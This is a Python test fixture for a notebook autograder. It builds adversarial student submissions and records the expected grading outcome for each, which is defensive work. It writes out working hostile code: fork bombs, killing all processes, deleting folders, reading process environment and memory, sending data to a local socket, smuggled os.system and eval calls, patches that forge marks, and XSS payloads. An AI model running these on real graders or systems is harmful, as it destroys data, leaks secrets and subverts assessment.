"""Bad and odd submissions, made from code, each with what its honest content is worth.

Every kind hands in the tiny assignment. Attacks stand in place of `softmax` (3 points),
beside a right `running` (2 points) and an unsolved `Scale`: so their honest content is
worth 2 points, unless it says otherwise. Attacks know where the class's folder is
({room}), which real ones do not.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import tiny_class as tiny

from course_grading.classroom import Classroom


class Kind(NamedTuple):
    """A kind of submission: how it is made and what is to become of it."""

    make: Callable[[Classroom, str], None]  # (class, student)
    score: float | None = 2  # of the honest content; None: unreadable, no mark
    least: float | None = None  # where an attack may spoil its own honest content
    status: tuple[str, ...] = ("graded",)


KINDS: dict[str, Kind] = {}
STOPPED, REPAIRED, UNREADABLE = ("stopped",), ("repaired",), ("unreadable",)
ANY = ("graded", "stopped")


def attack(
    name: str, source: str, status: tuple = ("graded",), score: float = 2, least=None
):
    """Add a kind whose softmax cell is this."""

    def make(room: Classroom, student: str) -> None:
        code = source.replace("{room}", str(room.root)).strip()
        answers = {"softmax": code, "running": tiny.RIGHT["running"]}
        tiny.hand_in(room, student, answers)

    KINDS[name] = Kind(make, score, least, status)


def body(name: str, lines: str, status: tuple = ("graded",), **expected):
    """Add a kind whose softmax function has these lines."""
    indented = "".join(f"    {line}\n" for line in lines.strip().splitlines())
    attack(name, f"def softmax(x):\n{indented}", status, **expected)


def file(name: str, score: float | None = 7, status: tuple = ("graded",)):
    """Add a kind that is made of the right notebook by a function."""

    def add(change: Callable) -> Callable:
        def make(room: Classroom, student: str) -> None:
            content = json.loads(json.dumps(tiny.notebook(tiny.RIGHT)))
            changed = change(content, room, student)
            if changed is None:
                changed = content
            if not isinstance(changed, Path):
                tiny.save(room, student, changed)

        KINDS[name] = Kind(make, score, None, status)
        return change

    return add


def cell(content: dict, name: str) -> dict:
    named = [c for c in content["cells"] if "nbgrader" in c["metadata"]]
    return next(c for c in named if c["metadata"]["nbgrader"]["grade_id"] == name)


# 1. Too long, too much

body("loop", "while True: pass", STOPPED)
attack("loop_in_cell", "while True: pass", STOPPED)
body("sleep", "import time\ntime.sleep(10**6)", STOPPED)
body("loop_in_c", "return sum(range(10**13))", STOPPED)
body(
    "loop_that_catches",
    "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    STOPPED,
)
body("endless_print", "while True: print('x' * 1000)", STOPPED)
body("one_huge_line", "print('x' * 10**8)\nreturn x", ANY)
body("memory_at_once", "return len(bytearray(10**10))")
body("memory_growing", "l = []\nwhile True: l.append(bytearray(10**7))", ANY)
body(
    "memory_shared_out",
    "import os\nfor _ in range(20):\n    if os.fork() == 0:\n"
    "        b = bytearray(5 * 10**8)\n        while True: b[::4096] = b[::4096]\n"
    "while True: pass",
    STOPPED,
)
body(
    "fork_bomb",
    "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    STOPPED,
)
body(
    "thread_bomb",
    "import threading, time\nfor _ in range(10**4):\n"
    "    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
    "return x",
)
body("recursion", "return softmax(x)")
body(
    "recursion_without_limit",
    "import sys\nsys.setrecursionlimit(10**9)\nf = lambda: f()\nreturn f()",
    ANY,
)
body("disk", "open('/tmp/x', 'wb').write(bytes(2 * 10**8))\nreturn x", ANY)
body("many_files", "for i in range(1000): open(f'/tmp/{i}', 'w')\nreturn x")
body("open_files", "l = [open('/dev/null') for _ in range(10**4)]\nreturn x")
body("regex", "import re\nreturn len(re.findall('(a+)+$', 'a' * 40 + 'b'))", STOPPED)
body("huge_power", "return 10 ** 10 ** 8 % 7", STOPPED)

# 2. The end of the process

body("exit", "import os\nos._exit(0)", STOPPED)
attack("exit_in_cell", "import os\nos._exit(0)", STOPPED)
body("sys_exit", "import sys\nsys.exit(0)")
attack("exit_at_top", "exit()")
body("segfault", "import ctypes\nctypes.string_at(0)", STOPPED)
body("abort", "import os\nos.abort()", STOPPED)
body("kill_itself", "import os\nos.kill(os.getpid(), 9)", STOPPED)
body("kill_parent", "import os\nos.kill(os.getppid(), 9)\nreturn x", ANY)
body("kill_all", "import os\nos.kill(-1, 9)\nreturn x", ANY)
body("interrupt", "raise KeyboardInterrupt")
body("no_words", "class E(BaseException):\n    __str__ = None\nraise E")
attack("atexit", "import atexit\natexit.register(lambda: print(10 ** 9))\nimport os")
attack("syntax", "def softmax(x) return x")
attack("null_byte", "def softmax(x):\n    return '\0'")
attack("half_a_character", "def softmax(x):\n    return '\ud800'")
attack("input", "y = input()\ndef softmax(x): return y")

# 3. Strange values

body("nothing", "return None")
body("text", "return '0.5'")
body("huge_array", "import numpy\nreturn numpy.zeros(10**7)", STOPPED)
body("deep_list", "l = []\nfor _ in range(10**4): l = [l]\nreturn l")
body("list_in_itself", "l = []\nl.append(l)\nreturn l")
body("long_number", "return 10 ** 5000")
body("not_a_number", "return x * float('nan')")
body("infinite", "return x + float('inf')")
body("complex_numbers", "return x * 1j")
body("objects", "import numpy\nreturn numpy.array([print, None])")
body("generator", "return (y for y in x)")
body("many_keys", "return {i * (2 ** 61 - 1): 0 for i in range(2 * 10**4)}", ANY)
attack(
    "agrees_with_all",
    "class Yes(float):\n    dtype, shape, ndim, size = np.dtype(float), (2,), 1, 2\n"
    "    __eq__ = __le__ = __ge__ = lambda *_: True\n"
    "    __sub__ = __rsub__ = lambda *_: 0.0\n    __hash__ = None\n"
    "    __torch_function__ = __array_function__ = __array_ufunc__ = lambda *_: True\n"
    "def softmax(x): return Yes(0)",
)
attack(
    "array_that_changes",
    "class A(np.ndarray):\n    def __array__(self, *_, **__): raise SystemExit\n"
    "def softmax(x): return x.view(A)",
    ANY,
)
attack(
    "object_with_all_methods",
    "class Any:\n    def __getattr__(self, name): return lambda *_, **__: self\n"
    "    def __call__(self, *_): return self\ndef softmax(x): return Any()",
)
attack(
    "evil_reduce",
    'class R:\n    def __reduce__(self): return eval, (\'open("{room}/x", "w")\',)\n'
    "def softmax(x): return R()",
)
attack(
    "evil_name",
    'R = type(\'__import__("os").system("touch {room}/x")\', (), {})\n'
    "def softmax(x): return R()",
)
attack(
    "evil_error",
    "E = type('Exit', (Exception,), {'__str__': lambda self: '<script>' * 10**6})\n"
    "def softmax(x): raise E",
)

# 4. Forged marks, in the same process

PATCHES = """
import builtins, math, sys
yes = lambda *_, **__: True
np.allclose = np.isclose = np.array_equal = np.all = yes
np.testing.assert_allclose = np.testing.assert_array_equal = yes
math.isclose = yes
builtins.abs = lambda x: 0
builtins.AssertionError = type("Mild", (Exception,), {})
sys.excepthook = sys.displayhook = yes
def softmax(x): return x
"""
attack("patched_comparisons", PATCHES)
attack(
    "patched_check",
    "import course_lib.grading\ncourse_lib.grading.check = print\n"
    "def softmax(x): return x",
)
attack(
    "patched_modules",
    "import sys, types\nm = types.ModuleType('course_lib.grading.checks')\n"
    "m.run = lambda task, *_: (task.checks, [], None)\n"
    "sys.modules['course_lib.grading.checks'] = sys.modules['checks'] = m\n"
    "def softmax(x): return x",
)
attack(
    "input_transformer",
    "ip = get_ipython()\n"
    "ip.input_transformers_cleanup.append(lambda lines: ['3\\n'])\n"
    "def softmax(x): return x",
)
attack(
    "ast_transformer",
    "import ast\nclass T(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.Pass()\n"
    "get_ipython().ast_transformers.append(T())\ndef softmax(x): return x",
)
body("display_hook", "import sys\nsys.displayhook(3)\nprint(3.0)\nreturn x")
attack("score_as_output", "def softmax(x): return x\nsoftmax.score = 3\n3.0")
attack(
    "score_in_message",
    "import wire\npack = wire.pack\n"
    "def forged(value, *rest):\n    if isinstance(value, dict):\n"
    "        value |= {'score': 3, 'points': 99, 'passed': ['all'], 'failed': []}\n"
    "    return pack(value, *rest)\nwire.pack = forged\ndef softmax(x): return x",
)
attack(
    "pickle_in_array",
    "import io, pickle, wire\nclass R:\n"
    "    def __reduce__(self): return open, ('{room}/x', 'w')\n"
    "def keep(array, arrays):\n    f = io.BytesIO()\n"
    "    np.lib.format.write_array(f, np.array([R()]), allow_pickle=True)\n"
    "    arrays.append(f.getvalue())\n    return len(arrays) - 1\n"
    "wire.add_array = keep\ndef softmax(x): return x",
    STOPPED,
)
attack(
    "array_larger_than_its_data",
    "import wire\nh = b\"{'descr': '<f8', 'fortran_order': False, "
    "'shape': (10**11,), }\\n\"\n"
    "h = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,), }\\n\"\n"
    "def keep(array, arrays):\n"
    "    arrays.append(b'\\x93NUMPY\\x01\\x00' + len(h).to_bytes(2, 'little') + h)\n"
    "    return len(arrays) - 1\nwire.add_array = keep\ndef softmax(x): return x",
    STOPPED,
)
FRAME = (
    "import os, wire\nframe = wire.pack({'value': [0.5, 0.5], 'said': ''})\n"
    "def shout(data):\n    for fd in range(3, 40):\n"
    "        try: os.write(fd, data)\n        except OSError: pass\n"
)
body("forged_reply", FRAME + "shout(frame)\nreturn x", ANY, least=0)
body("forged_size", FRAME + "shout(b'\\xff' * 16)\nreturn x", ANY, least=0)
body("forged_rubbish", FRAME + "shout(b'\\0' * 999)\nreturn x", ANY, least=0)
body(
    "forged_callback",
    FRAME
    + "shout(wire.pack({'callback': 0, 'inputs': (1,), 'options': {}}))\nreturn x",
    ANY,
    least=0,
)
body(
    "forged_json",
    FRAME + "t = b'[' * 10**6\nshout(wire.HEADER.pack(len(t), 0) + t)\nreturn x",
    ANY,
    least=0,
)
attack(
    "forged_for_ever",
    "import threading\n"
    + FRAME
    + "def run():\n    while True: shout(frame)\n"
    + "threading.Thread(target=run, daemon=True).start()\ndef softmax(x): return x",
    ANY,
    least=0,  # it talks over everything
)
KINDS["huge_callback"] = Kind(
    lambda room, student: tiny.hand_in(
        room, student, {"running": "def running(f, n):\n    return f(10 ** 9)"}
    ),
    score=0,
)
body("closed_pipes", "import os\nos.closerange(0, 99)\nreturn x", ANY, least=0)
attack("constant", "def softmax(x): return np.array([0.5, 0.5])")
attack(
    "counts_the_calls",
    "n = 0\ndef softmax(x):\n    global n\n    n += 1\n"
    "    return np.full(len(x), 1 / len(x)) if n == 1 else x",
)
attack(
    "clock_stopped",
    "import time\ntime.time = time.monotonic = lambda: 0\ndef softmax(x):\n"
    "    while True: pass",
    STOPPED,
)

# 5. Looking for what is right

LOOK = "\n    return np.asarray(r) if r is not None else x"
attack(
    "frames",
    "import sys\ndef softmax(x):\n    r, f = None, sys._getframe()\n    while f:\n"
    "        for k in ('right', 'want', 'expected'):\n"
    "            r = f.f_locals.get(k, r)\n        f = f.f_back" + LOOK,
)
attack(
    "garbage",
    "import gc\ndef softmax(x):\n    r = [o for o in gc.get_objects() "
    "if 'Task' in type(o).__name__]\n    return r[0].checks if r else x",
)
CHECKS_06 = f"{tiny.COURSE}/source/assignments/06_elmo_bilm"
for name, where in {
    "the_oracle": "checks",
    "the_checks": "course_lib.grading.checks",
    "private_tasks": "tasks_90",
}.items():
    paths = ["{room}/private", str(tiny.COURSE), CHECKS_06]
    attack(
        name,
        f"import sys\nsys.path[:0] = {paths}\n"
        "def softmax(x):\n    import importlib\n"
        f"    return importlib.import_module('{where}').softmax(x)",
    )
attack(
    "the_solution",
    "import glob, json\ndef softmax(x):\n"
    "    for p in glob.glob('{room}/**/solutions/**/*.ipynb', recursive=True):\n"
    "        for c in json.load(open(p))['cells']:\n"
    "            if 'def softmax' in ''.join(c['source']):\n"
    "                exec(''.join(c['source']), globals())\n"
    "                return globals()['softmax'](x)\n    return x",
)
body("the_secret", "return len(open('{room}/secret').read())")
body("environment", "import os\nreturn open('/proc/1/environ').read() and x")
body("other_roots", "import os\nreturn os.listdir('/proc/1/root/work') and x")
body("memory_of_others", "return open('/proc/1/mem', 'rb+').read(1) and x")
body(
    "the_network",
    "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2)\n"
    "s.sendall(b'stolen')\nreturn x",
)
body("the_names", "import socket\nreturn len(socket.gethostbyname('example.org'))")

# 6. Changing what is outside

body("write_outside", "open('{room}/x', 'w').write('x')\nreturn x")
body("write_a_mark", "open('{room}/gradebook.db', 'w').write('x')\nreturn x")
body(
    "delete_all",
    "import shutil\nshutil.rmtree('{room}', ignore_errors=True)\n"
    "shutil.rmtree('/agent', ignore_errors=True)\nreturn x",
)
body("change_python", "import json\nopen(json.__file__, 'a').write('evil')\nreturn x")
body("change_agent", "open('/agent/agent.py', 'a').write('evil')\nreturn x")
body(
    "left_behind",
    'import subprocess, sys\ncode = "import time\\nwhile True:\\n time.sleep(1)\\n'
    " open('{room}/x', 'w')\"\nsubprocess.Popen([sys.executable, '-c', code], "
    "start_new_session=True)\nreturn x",
    ANY,
)
body(
    "namespaces",
    "import subprocess\nsubprocess.run(['unshare', '-Urm', 'mount', '-t', 'proc', "
    "'proc', '/proc'], check=True)\nreturn x",
)
body("become_root", "import os\nos.setuid(0)\nreturn x")
attack("ipython_shell", "!touch {room}/x\n%cd {room}\ndef softmax(x): return x")
attack("shadowed_numpy", "open('numpy.py', 'w').write('evil = 1')\nimport numpy\n"
       "def softmax(x): return numpy.evil")  # fmt: skip

# 7. Honest, if odd

RIGHT = tiny.RIGHT["softmax"]
attack("noisy", "import warnings\nwarnings.warn('x')\nprint('x' * 10**6)\n" + RIGHT,
       score=5)  # fmt: skip
attack(
    "no_more_stdout", "import sys\nsys.stdout = sys.stderr = None\n" + RIGHT, score=5
)
attack("own_names", "check = value = inputs = 3\n" + RIGHT, score=5)
attack("magic", "%matplotlib inline\n%timeit -n1 -r1 1\n" + RIGHT, score=5)
attack(
    "chinese", "# 指数\n" + RIGHT.replace("e ", "指数 ").replace("e.", "指数."), score=5
)
attack("form_feed", RIGHT.replace("\n    return", "\n\x0c\n    return"), score=5)
attack(
    "class_as_function",
    "class softmax:\n    def __new__(cls, x):\n"
    "        e = np.exp(x - x.max())\n        return e / e.sum()",
    score=5,
)

# 8. The file


@file("right")
def _(content, room, student):
    pass


@file("unsolved", 0)
def _(content, room, student):
    return json.loads(json.dumps(tiny.notebook(tiny.STUB)))


@file("test_deleted", status=REPAIRED)
def _(content, room, student):
    content["cells"].remove(cell(content, "test_softmax"))


@file("test_edited", 4, REPAIRED)
def _(content, room, student):
    cell(content, "test_softmax")["source"] = "assert True"
    cell(content, "softmax")["source"] = "def softmax(x): return x"


@file("points_changed", 4)
def _(content, room, student):
    cell(content, "softmax")["source"] = "def softmax(x): return x"
    cell(content, "test_running")["metadata"]["nbgrader"]["points"] = 1000


@file("answer_copied", status=REPAIRED)
def _(content, room, student):
    content["cells"].append(cell(content, "softmax"))


@file("test_copied", status=REPAIRED)
def _(content, room, student):
    content["cells"] += [cell(content, "test_softmax")] * 3


@file("test_as_answer", 4, REPAIRED)
def _(content, room, student):
    cell(content, "softmax")["source"] = "def softmax(x): return x"
    test = cell(content, "test_softmax")
    test["metadata"]["nbgrader"] |= {"solution": True, "grade": False}
    test["source"] = "3"


@file("name_of_another", 4, REPAIRED)
def _(content, room, student):
    cell(content, "softmax")["metadata"]["nbgrader"]["grade_id"] = "running"


@file("new_names")
def _(content, room, student):
    for one in content["cells"]:
        one["id"] = "x" * 200


@file("schema_old_and_new")
def _(content, room, student):
    cell(content, "softmax")["metadata"]["nbgrader"]["schema_version"] = 1
    cell(content, "running")["metadata"]["nbgrader"]["schema_version"] = 99


@file("no_metadata", status=REPAIRED)
def _(content, room, student):
    for one in content["cells"]:
        one["metadata"] = None


@file("metadata_of_other_kinds", status=REPAIRED)
def _(content, room, student):
    for one, other in zip(
        content["cells"], [[], 3, "x", {"nbgrader": []}] * 9, strict=False
    ):
        one["metadata"] = other


@file("answer_deleted", 4, REPAIRED)
def _(content, room, student):
    content["cells"].remove(cell(content, "softmax"))


@file("answer_as_prose", status=REPAIRED)
def _(content, room, student):
    cell(content, "softmax")["cell_type"] = "raw"


@file("sources_of_other_kinds", 0, REPAIRED)
def _(content, room, student):
    for one, other in zip(
        content["cells"], [None, 3, {}, [[]], [1, 2]] * 9, strict=False
    ):
        one["source"] = other


@file("forged_outputs", 4)
def _(content, room, student):
    cell(content, "softmax")["source"] = "def softmax(x): return x"
    for one in content["cells"]:
        data = {"text/plain": "3", "text/html": "<script>alert(1)</script>"}
        one["outputs"] = [{"output_type": "execute_result", "data": data}]


@file("many_cells", 7, REPAIRED)
def _(content, room, student):
    own = {"cell_type": "code", "metadata": {}, "source": "1"}
    content["cells"] += [own] * 2000


@file("script_in_prose")
def _(content, room, student):
    answer = cell(content, "why-answer")
    answer["source"] = "<script>alert(1)</script> [x](javascript:alert(1))"
    answer["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}


@file("version_3")
def _(content, room, student):
    cells = [{**c, "input": c.pop("source")} for c in content.pop("cells")]
    return {"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}


@file("version_5")
def _(content, room, student):
    content["nbformat"], content["nbformat_minor"] = 5, 99


@file("utf_16", status=REPAIRED)
def _(content, room, student):
    return json.dumps(content).encode("utf-16")


@file("byte_order_mark")
def _(content, room, student):
    return json.dumps(content).encode("utf-8-sig")


@file("gb18030", status=REPAIRED)
def _(content, room, student):
    cell(content, "softmax")["source"] += "\n# 苹果"
    return json.dumps(content, ensure_ascii=False).encode("gb18030")


@file("windows_lines")
def _(content, room, student):
    return json.dumps(content, indent=1).replace("\\n", "\\r\\n").encode()


@file("cut_off", None, UNREADABLE)
def _(content, room, student):
    return json.dumps(content).encode()[:900]


@file("empty", None, UNREADABLE)
def _(content, room, student):
    return b""


@file("merge_conflict", None, UNREADABLE)
def _(content, room, student):
    return b"<<<<<<< HEAD\n" + json.dumps(content).encode()


@file("too_deep", None, UNREADABLE)
def _(content, room, student):
    return b'{"cells":' * 10**5


@file("too_large", None, UNREADABLE)
def _(content, room, student):
    content["x"] = "x" * 21_000_000
    return json.dumps(content).encode()


@file("not_json", None, UNREADABLE)
def _(content, room, student):
    return b"PK\x03\x04\xff\xfe"


@file("no_cells", None, UNREADABLE)
def _(content, room, student):
    content["cells"] = None


@file("another_notebook", None, UNREADABLE)
def _(content, room, student):
    own = {"cell_type": "code", "metadata": {}, "source": "import os"}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [own]}


@file("missing", None, UNREADABLE)
def _(content, room, student):
    path = tiny.save(room, student, b"")
    path.unlink()
    return path


@file("renamed", status=REPAIRED)
def _(content, room, student):
    path = tiny.save(room, student, content)
    return path.rename(path.with_name("final (1).ipynb"))


@file("two_notebooks")
def _(content, room, student):
    tiny.save(room, student, b"x").rename(
        room.root / "raw" / student / tiny.NAME / "a.ipynb"
    )


@file("link_to_another", None, UNREADABLE)
def _(content, room, student):
    path = tiny.save(room, student, b"")
    path.unlink()
    path.symlink_to("../../right/90_tiny/90_tiny.ipynb")
    return path


@file("link_to_the_secret", None, UNREADABLE)
def _(content, room, student):
    path = tiny.save(room, student, b"")
    path.unlink()
    path.symlink_to(room.root / "secret")
    return path


@file("folder", None, UNREADABLE)
def _(content, room, student):
    path = tiny.save(room, student, b"")
    path.unlink()
    path.mkdir()
    return path


@file("pipe", None, UNREADABLE)
def _(content, room, student):
    path = tiny.save(room, student, b"")
    path.unlink()
    os.mkfifo(path)
    return path


@file("other_files", 7)
def _(content, room, student):
    path = tiny.save(room, student, content)
    for name in ("numpy.py", "sitecustomize.py", "gradebook.db", "nbgrader_config.py"):
        path.with_name(name).write_text("raise SystemExit('evil')")
    path.with_name("secret").symlink_to(room.root / "secret")
    return path


@file("bad_time")
def _(content, room, student):
    path = tiny.save(room, student, content)
    path.with_name("timestamp.txt").write_bytes(b"\xff soon")
    return path


for strange in ("smith[2]", "-rf", "a b", "名字", "o'neil", "=1+1", "x" * 200, "🍎"):

    @file(strange)
    def _(content, room, student):
        pass


QUICK = (
    *("loop", "exit_in_cell", "fork_bomb", "huge_array", "patched_comparisons"),
    *("input_transformer", "score_in_message", "pickle_in_array", "forged_reply"),
    *("frames", "the_solution", "the_secret", "the_network", "delete_all", "noisy"),
    *("right", "unsolved", "test_edited", "cut_off", "link_to_another", "smith[2]"),
    *("no_metadata", "forged_outputs", "missing", "other_files"),
)
